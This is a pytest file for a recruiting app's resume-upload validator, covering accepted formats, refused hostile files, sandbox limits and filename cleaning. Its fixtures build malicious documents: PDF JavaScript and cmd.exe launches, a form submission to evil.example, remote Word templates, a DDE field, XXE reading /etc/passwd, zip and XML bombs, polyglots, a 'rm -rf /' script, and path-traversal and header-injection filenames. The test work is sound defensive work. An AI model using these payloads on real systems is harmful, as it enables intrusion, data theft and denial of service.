"""Which files are taken as resumes, and what is said of those that are not."""

import hashlib
import io
import resource
import struct
import subprocess
import sys
import threading
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, Pdf, String

from recruiting.approvals.files import checking, child, limited
from recruiting.approvals.files.child import MEMORY_MAX, answer_to
from recruiting.approvals.files.names import NAME_MAX, clean_name
from recruiting.approvals.files.reasons import WORDS, Reason, Refused
from recruiting.approvals.models import Resume
from tests import resumes

pytestmark = pytest.mark.one_database

MEGABYTE = 1024 * 1024
HIDDEN = {"object_stream_mode": ObjectStreamMode.generate}
"""Objects are packed into compressed streams, where no search for words finds them."""


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


# --- what is taken -------------------------------------------------------------------------

WHOLE: dict[str, tuple[str, int, Callable[[], bytes]]] = {
    "a PDF": ("pdf", 1, resumes.pdf),
    "a PDF with links": ("pdf", 1, lambda: resumes.pdf(resumes.link("https://ada.example/cv"))),
    "a PDF of 300 pages": ("pdf", 300, lambda: resumes.pdf(pages=300)),
    "a PDF with object streams": ("pdf", 1, lambda: resumes.pdf(**HIDDEN)),
    "a linearised PDF": ("pdf", 1, lambda: resumes.pdf(linearize=True)),
    "a PDF that opens on a place": (
        "pdf", 2, lambda: resumes.pdf(_opens_on_second_page, pages=2),
    ),
    "a PDF that speaks of scripts": (
        "pdf", 1, lambda: resumes.pdf(words="HTML, /JavaScript and /Launch pads"),
    ),
    "a PDF with a blank line before it": ("pdf", 1, lambda: b"\r\n" + resumes.pdf()),
    "Word": ("docx", 0, resumes.docx),
    "Word with a link": ("docx", 0, lambda: resumes.docx(_related("hyperlink", "https://a.example"))),
    "Word from a template of one's own": (
        "docx", 0, lambda: resumes.docx(_related("attachedTemplate", r"file:///C:\Users\a\CV.dotx")),
    ),
    "OpenDocument": ("odt", 0, resumes.odt),
    "OpenDocument with a link": (
        "odt", 0, lambda: resumes.odt(body='<text:a xlink:href="https://a.example">Site</text:a>'),
    ),
    "OpenDocument as LibreOffice saves it": (
        "odt", 0, lambda: resumes.odt(
            {"Configurations2/accelerator/current.xml": ""},
            manifest='<manifest:file-entry manifest:full-path="Configurations2/"'
            ' manifest:media-type="application/vnd.sun.xml.ui.configuration"/>',
        ),
    ),
    "text": ("txt", 0, "Ada Lovelace\nGrüße aus Zürich".encode),
    "text of old Windows": ("txt", 0, lambda: "Grüße – “aus” Zürich".encode("cp1252")),
    "text in UTF-16": ("txt", 0, lambda: "Ada Lovelace".encode("utf-16")),
    "text that begins like a picture": ("txt", 0, lambda: b"BMW, Munich: seven years"),
}  # fmt: skip


@pytest.mark.parametrize("what", WHOLE)
def test_whole_file_is_taken_for_what_it_is(what: str) -> None:
    kind, pages, make = WHOLE[what]
    assert answer_to("check", make()) == {"kind": kind, "pages": pages}


def test_kinds_are_those_of_the_model() -> None:
    assert sorted(Resume.Kind.values) == sorted({kind for kind, _, _ in WHOLE.values()})


# --- what is refused -----------------------------------------------------------------------


def _opens_on_second_page(made: Pdf) -> None:
    made.Root.OpenAction = Array([made.pages[1].obj, Name.Fit])


def _related(kind: str, target: str, mode: str = "External") -> dict[str, str | bytes]:
    return {"word/_rels/document.xml.rels": resumes.relations((kind, target, mode))}


def _named_script(made: Pdf) -> None:
    names = Dictionary(Names=Array([String("a"), made.make_indirect(script())]))
    made.Root.Names = Dictionary(JavaScript=names)


def _script_nothing_refers_to(made: Pdf) -> None:
    """As an incremental update may bring it to life. qpdf drops what nothing refers to."""
    made.Root.Kept = made.make_indirect(Dictionary(Some=made.make_indirect(script())))


def _attached(made: Pdf) -> None:
    made.attachments["tool.exe"] = b"MZ" + bytes(100)


def _long_page(made: Pdf) -> None:
    made.pages[0].obj.MediaBox = Array([0, 0, 595, 3_000_000])


def _huge_image(made: Pdf) -> None:
    stream = pikepdf.Stream(made, zlib.compress(bytes(1000)))
    stream.update(
        Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000,
            ColorSpace=Name.DeviceGray, BitsPerComponent=8, Filter=Name.FlateDecode,
        )
    )  # fmt: skip
    made.pages[0].obj.Resources.XObject = Dictionary(Im0=stream)


def _bomb_stream(times: int) -> resumes.Change:
    """A content stream that unfolds into 70 megabytes, packed so many times over."""

    def change(made: Pdf) -> None:
        content = zlib.compress(bytes(70 * MEGABYTE), 9)
        for _ in range(times - 1):
            content = zlib.compress(content, 9)
        stream = pikepdf.Stream(made, b"")
        stream.write(content, filter=Array([Name.FlateDecode] * times))
        made.pages[0].obj.Contents = stream

    return change


def _many_objects(made: Pdf) -> None:
    made.Root.Kept = Array([made.make_indirect(Dictionary(N=n)) for n in range(101_000)])


def _encrypted(owner: str, user: str) -> bytes:
    return resumes.pdf(encryption=pikepdf.Encryption(owner=owner, user=user))


def _twisted_pages() -> bytes:
    """Pages that are their own children."""

    def change(made: Pdf) -> None:
        made.Root.Pages.Kids = Array([made.Root.Pages])

    made = resumes.pdf()
    with pikepdf.open(io.BytesIO(made)) as pdf:
        change(pdf)
        file = io.BytesIO()
        pdf.save(file)
    return file.getvalue()


def _zip_bomb() -> bytes:
    return resumes.docx({"word/media/image1.png": bytes(125 * MEGABYTE)})


def _zip_that_lies() -> bytes:
    """Its directory says that a part has ten bytes."""
    whole = resumes.docx({"word/media/a.bin": bytes(3 * MEGABYTE)})
    return whole.replace(struct.pack("<L", 3 * MEGABYTE), struct.pack("<L", 10))


def _laughing() -> dict[str, str | bytes]:
    lines = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    )  # fmt: skip
    return {
        "word/document.xml": f'<!DOCTYPE d [<!ENTITY l0 "ha">{lines}]><d>&l9;</d>',
    }


def _outside(path: str) -> dict[str, str | bytes]:
    return {"word/document.xml": f'<!DOCTYPE d [<!ENTITY x SYSTEM "{path}">]><d>&x;</d>'}


def _nested() -> bytes:
    return resumes.docx({"word/media/more.png": resumes.archive({"bomb": bytes(MEGABYTE)})})


def _locked_word() -> bytes:
    """An OLE container, as Word saves what has a password."""
    name = "EncryptedPackage".encode("utf-16le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + name + bytes(512)


_SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
_FIELD = '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r></w:p>'  # fmt: skip

HOSTILE: dict[str, tuple[Reason, Callable[[], bytes]]] = {
    # PDFs that act
    "a script when it is opened": (Reason.SCRIPT, lambda: resumes.pdf(resumes.rooted(OpenAction=script()))),
    "a script in an object stream": (Reason.SCRIPT, lambda: resumes.pdf(_named_script, **HIDDEN)),
    "a script that nothing starts yet": (Reason.SCRIPT, lambda: resumes.pdf(_script_nothing_refers_to, **HIDDEN)),
    "a script behind an escaped name": (
        Reason.SCRIPT, lambda: resumes.pdf(resumes.rooted(OpenAction=script())).replace(b"/JS ", b"/#4AS "),
    ),
    "a script of a page": (
        Reason.SCRIPT, lambda: resumes.pdf(resumes.annotated(Dictionary(Subtype=Name.Link, AA=Dictionary(E=script())))),
    ),
    "a program to launch": (
        Reason.LAUNCH,
        lambda: resumes.pdf(resumes.rooted(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
    ),
    "a file of a server to open": (
        Reason.LAUNCH,
        lambda: resumes.pdf(resumes.annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("//evil/x"))))),
    ),
    "a form that sends itself": (
        Reason.FORM,
        lambda: resumes.pdf(resumes.rooted(OpenAction=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
    ),
    "a form in XML": (Reason.FORM, lambda: resumes.pdf(resumes.rooted(AcroForm=Dictionary(Fields=Array(), XFA=String("<x/>"))))),
    "an attached program": (Reason.ATTACHMENT, lambda: resumes.pdf(_attached, **HIDDEN)),
    "a film": (Reason.MEDIA, lambda: resumes.pdf(resumes.annotated(Dictionary(Subtype=Name.RichMedia)))),
    # locked
    "a PDF with a password": (Reason.ENCRYPTED, lambda: _encrypted("o", "u")),
    "a PDF with a password of its owner": (Reason.ENCRYPTED, lambda: _encrypted("o", "")),
    "Word with a password": (Reason.ENCRYPTED, _locked_word),
    "OpenDocument with a password": (Reason.ENCRYPTED, lambda: resumes.odt(manifest="<manifest:encryption-data/>")),
    # bombs
    "a stream that unfolds": (Reason.BOMB, lambda: resumes.pdf(_bomb_stream(1))),
    "a stream that unfolds twice": (Reason.BOMB, lambda: resumes.pdf(_bomb_stream(2))),
    "a hundred thousand objects": (Reason.BOMB, lambda: resumes.pdf(_many_objects, **HIDDEN)),
    "a page of a kilometre": (Reason.BOMB, lambda: resumes.pdf(_long_page)),
    "an image of 3600 megapixels": (Reason.BOMB, lambda: resumes.pdf(_huge_image)),
    "an archive that unfolds": (Reason.BOMB, _zip_bomb),
    "an archive that lies about a size": (Reason.BROKEN, _zip_that_lies),
    "an archive in an archive": (Reason.OBJECT, _nested),
    "a billion laughs": (Reason.BOMB, lambda: resumes.docx(_laughing())),
    "XML deeper than the sea": (Reason.BOMB, lambda: resumes.docx(body="<w:p>" * 300 + "</w:p>" * 300)),
    "XML with three million elements": (Reason.BOMB, lambda: resumes.docx(body="<w:p/>" * 3_000_000)),
    "five thousand parts": (Reason.BOMB, lambda: resumes.docx({f"word/{n}.bin": b"" for n in range(5_000)})),
    # documents that act or fetch
    "a file read by XML": (Reason.BOMB, lambda: resumes.docx(_outside("file:///etc/passwd"))),
    "macros of Word": (Reason.MACRO, lambda: resumes.docx({"word/vbaProject.bin": b"Sub Auto"})),
    "macros by their type": (
        Reason.MACRO, lambda: resumes.docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "an object of OLE": (Reason.OBJECT, lambda: resumes.docx({"word/embeddings/oleObject1.bin": b"x"})),
    "a template from elsewhere": (Reason.REMOTE, lambda: resumes.docx(_related("attachedTemplate", "https://evil.example/a.dotm"))),
    "a template of a share": (Reason.REMOTE, lambda: resumes.docx(_related("attachedTemplate", r"\\evil\a.dotm"))),
    "a picture from elsewhere": (Reason.REMOTE, lambda: resumes.docx(_related("image", "https://evil.example/a.png"))),
    "a page to be read in": (Reason.OBJECT, lambda: resumes.docx(_related("aFChunk", "a.htm", "Internal"))),
    "a field that runs a program": (Reason.REMOTE, lambda: resumes.docx(body=_FIELD)),
    "macros of OpenDocument": (Reason.MACRO, lambda: resumes.odt({"Basic/Standard/Module1.xml": "<m/>"})),
    "an event of OpenDocument": (Reason.SCRIPT, lambda: resumes.odt(body="<script:event-listener/>")),
    "a link that runs a script": (Reason.SCRIPT, lambda: resumes.odt(body='<text:a xlink:href="vnd.sun.star.script:x">a</text:a>')),
    "a picture fetched by OpenDocument": (Reason.REMOTE, lambda: resumes.odt(body='<draw:image xlink:href="https://evil.example/"/>')),
    # two kinds in one
    "a picture before a PDF": (Reason.TWO_KINDS, lambda: b"GIF89a" + resumes.pdf()),
    "a page before a PDF": (Reason.TWO_KINDS, lambda: b"<script>1</script>" + resumes.pdf()),
    "a page in the head of a PDF": (Reason.TWO_KINDS, lambda: resumes.pdf().replace(b"\n", b"\n%<html><script>\n", 1)),
    "a program after a PDF": (Reason.TWO_KINDS, lambda: resumes.pdf() + b"MZ\x90\0" + bytes(99)),
    "an archive after a PDF": (Reason.TWO_KINDS, lambda: resumes.pdf() + resumes.archive({"a": "b"})),
    "an archive around a PDF": (Reason.TWO_KINDS, lambda: resumes.archive({"a.pdf": resumes.pdf()}, first="a.pdf")),
    "a program before a document": (Reason.PROGRAM, lambda: b"MZ\x90\0" + bytes(60) + resumes.docx()),
    "words after a document": (Reason.TWO_KINDS, lambda: resumes.docx() + b"<script>1</script>"),
    "words after text": (Reason.TWO_KINDS, lambda: b"Ada Lovelace\n" + resumes.archive({"a": "b"})),
    # other kinds
    "a drawing": (Reason.DRAWING, lambda: _SVG),
    "a drawing in UTF-16": (Reason.DRAWING, lambda: _SVG.decode().encode("utf-16")),
    "a web page": (Reason.WEB_PAGE, lambda: b"\xef\xbb\xbf \n<!DOCTYPE html><script>1</script>"),
    "a web page in a mail": (Reason.WEB_PAGE, lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related"),
    "rich text": (Reason.RICH_TEXT, lambda: rb"{\rtf1\ansi Ada}"),
    "old Word": (Reason.OLD_WORD, lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)),
    "a picture": (Reason.PICTURE, lambda: b"\x89PNG\r\n\x1a\n" + bytes(100)),
    "a program": (Reason.PROGRAM, lambda: b"\x7fELF" + bytes(100)),
    "a script of the shell": (Reason.PROGRAM, lambda: b"#!/bin/sh\nrm -rf /\n"),
    "an archive": (Reason.ARCHIVE, lambda: resumes.archive({"resume.pdf": b"x" * 2000})),
    "a spreadsheet": (Reason.OFFICE, lambda: resumes.docx(main="application/vnd.ms-excel")),
    "a spreadsheet of OpenDocument": (Reason.OFFICE, lambda: resumes.odt(mimetype="application/vnd.oasis.opendocument.spreadsheet")),
    "bytes": (Reason.OTHER, lambda: bytes(range(256)) * 8),
    # broken
    "nothing": (Reason.EMPTY, lambda: b""),
    "blanks": (Reason.EMPTY, lambda: b" \r\n\0\0"),
    "half a PDF": (Reason.CUT_OFF, lambda: resumes.pdf()[:400]),
    "half a PDF for the web": (Reason.CUT_OFF, lambda: resumes.pdf(pages=9, linearize=True)[:-300]),
    "half a document": (Reason.CUT_OFF, lambda: resumes.docx()[:400]),
    "a PDF in name": (Reason.CUT_OFF, lambda: b"%PDF-1.7\nAda Lovelace"),
    "a PDF without its objects": (Reason.BROKEN, lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n"),
    "pages within themselves": (Reason.BROKEN, _twisted_pages),
    "a path that climbs": (Reason.BROKEN, lambda: resumes.docx({"../../etc/cron.d/x": b"x"})),
    "a part twice": (Reason.TWO_KINDS, lambda: resumes.docx({"word/Document.xml": b"<x/>"})),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_file_is_refused(what: str) -> None:
    reason, make = HOSTILE[what]
    assert answer_to("check", make()) == {"refused": reason.value}


# --- in a process of its own ---------------------------------------------------------------

REAL = [what for what, (reason, _) in HOSTILE.items() if reason in (
    Reason.SCRIPT, Reason.LAUNCH, Reason.BOMB, Reason.TWO_KINDS, Reason.ENCRYPTED,
)]  # fmt: skip
"""The worst of them."""


def test_thirty_hostile_files_take_little_memory_and_are_refused_in_words() -> None:
    """Of the process that answers people, and of each that opens a file."""
    files = {what: HOSTILE[what][1]() for what in REAL}
    assert len(files) >= 30
    before = _memory()
    with ThreadPoolExecutor(limited.AT_ONCE) as pool:
        answers = dict(zip(files, pool.map(_words_against, files.values()), strict=True))
    assert answers == {what: WORDS[HOSTILE[what][0]] for what in REAL}
    assert _memory() - before < 50 * MEGABYTE
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 < 600 * MEGABYTE


def _words_against(content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        checking.check(resumes.upload(content))
    return " ".join(refused.value.messages)


@pytest.mark.parametrize("what", ["a PDF", "Word", "OpenDocument", "text"])
def test_checked_file_is_known_by_its_content_and_not_by_its_name(what: str) -> None:
    kind, pages, make = WHOLE[what]
    content = make()
    checked = checking.check(resumes.upload(content, "Ada Lovelace.exe"))
    assert checked == checking.Checked(
        kind, pages, f"Ada Lovelace.{kind}", len(content), hashlib.sha256(content).hexdigest()
    )


def test_more_than_ten_megabytes_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limited, "ask", None)
    with pytest.raises(ValidationError, match="larger than 10 MB"):
        checking.check(resumes.upload(b"a" * (checking.SIZE_MAX + 1)))


def _child(monkeypatch: pytest.MonkeyPatch, program: str) -> None:
    """In place of the one that opens files, one that does something else in its limits."""
    begin = f"import runpy; child = runpy.run_path({child.__file__!r}); child['limit']('check');"
    real = subprocess.run

    def run(command: list[str], **options: Any) -> subprocess.CompletedProcess[bytes]:
        return real([sys.executable, "-c", f"{begin} {program}"], **options)

    monkeypatch.setattr(subprocess, "run", run)


@pytest.mark.parametrize(
    "program",
    [
        f"bytearray({MEMORY_MAX['check']})",
        "import resource, signal, os; os.kill(os.getpid(), signal.SIGXCPU)",
        "import sys; sys.stdout.write('a' * 20_000_000); sys.stdout.flush()",
    ],
    ids=["memory", "time of the processor", "a long answer"],
)
def test_child_that_takes_too_much_ends_and_refuses(
    program: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    _child(monkeypatch, program)
    with pytest.raises(Refused):
        limited.ask("check", [b"Ada"])


def test_child_that_hangs_is_ended_by_the_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(limited.SECONDS, "check", 0.2)
    _child(monkeypatch, "import time; time.sleep(60)")
    with pytest.raises(Refused, match="bomb"):
        limited.ask("check", [b"Ada"])


def test_child_inherits_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "canary")
    _child(monkeypatch, "import json, os, sys; json.dump(dict(os.environ), sys.stdout)")
    assert "canary" not in str(limited.ask("check", [b"Ada"]))


def test_child_imports_neither_django_nor_the_queue() -> None:
    program = (
        f"import runpy; runpy.run_path({child.__file__!r})['take_bare_package'](); import sys;"
        "from recruiting.approvals.files import packages, pdfs;"
        "print({'django', 'celery'} & set(sys.modules))"
    )
    said = subprocess.run([sys.executable, "-c", program], capture_output=True, check=True)
    assert said.stdout == b"set()\n"


def test_too_many_files_at_once_are_asked_to_come_again(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limited, "WAIT", 0)
    monkeypatch.setattr(limited, "_places", threading.BoundedSemaphore(1))
    limited._places.acquire()
    with pytest.raises(ValidationError, match="Send it again in a minute"):
        checking.check(resumes.upload(b"Ada"))


def _memory() -> int:
    """Bytes of this process that are in memory."""
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * resource.getpagesize()


# --- names ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../x\r\nSet-Cookie: a=b.pdf", "x Set-Cookie_ a=b.pdf"),
        ("C:\\Users\\ada\\CV.PDF", "CV.pdf"),
        ("cv\u202efdp.exe", "cvfdp.pdf"),
        ("cv.pdf.exe", "cv.pdf"),
        ("Ada Lovelace", "Ada Lovelace.pdf"),
        ("A. Lovelace", "A. Lovelace.pdf"),
        ("Lebenslauf Müller 履歴書.docx", "Lebenslauf Müller 履歴書.pdf"),
        ('a"b;c*d?.pdf', "a_b;c_d_.pdf"),
        ("..", "resume.pdf"),
        ("", "resume.pdf"),
        (".pdf", "resume.pdf"),
        ("\x00\x1f", "resume.pdf"),
    ],
)  # fmt: skip
def test_name_is_cleaned(sent: str, kept: str) -> None:
    assert clean_name(sent, "pdf") == kept


def test_long_name_keeps_its_ending() -> None:
    name = clean_name("ü" * 400 + ".docx", "docx")
    assert (len(name), name.endswith("ü.docx")) == (NAME_MAX, True)
